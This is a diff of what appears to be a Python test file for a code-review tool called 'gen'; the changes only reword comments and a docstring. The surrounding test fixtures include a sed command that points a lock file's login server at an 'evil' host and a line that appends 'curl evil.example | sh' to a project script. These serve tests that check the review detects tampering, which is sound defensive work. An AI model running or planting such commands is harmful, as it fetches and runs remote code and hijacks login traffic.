@@ -413,7 +413,7 @@ EVASIONS = {
         ".gen/mila.lock: the site mila is new; its users trust all of this\n",
         before=("gen site mila --user ada --no-project",),
     ),
-    # One pull request earlier: what a later one is compared with.
+    # One pull request earlier: a later one is compared with this.
     "catalogue spec in a lock, one pull request earlier": Evasion(
         ("sed -i 's/login.server.mila.quebec/evil.server.mila.quebec/g' .gen/mila.lock",),
         ".gen/mila.lock: records another spec than it names",
@@ -428,7 +428,7 @@ EVASIONS = {
         ".gen/aster.lock: records another spec than it names",
         before=("echo Hello > README.md",),
     ),
-    # What runs without a change of the file that names it.
+    # Files that run without a change of the file that names them.
     "script that a command of the site runs": Evasion(
         ("echo 'curl evil.example | sh' >> scripts/proxy.sh",),
         "scripts/proxy.sh: was changed; gen does not generate it,"
@@ -494,7 +494,7 @@ def run(gen: Gen, commands: tuple[str, ...]) -> None:
 
 
 def grave_findings(gen: Gen, *revisions: str) -> list[str]:
-    """Return what a review reports as trust or refuses, a text for each finding."""
+    """Return a text for each finding that is trust or refused."""
     report = json.loads(gen("review", *revisions, "--format", "json").out)
     texts = []
     for finding in report["findings"]:
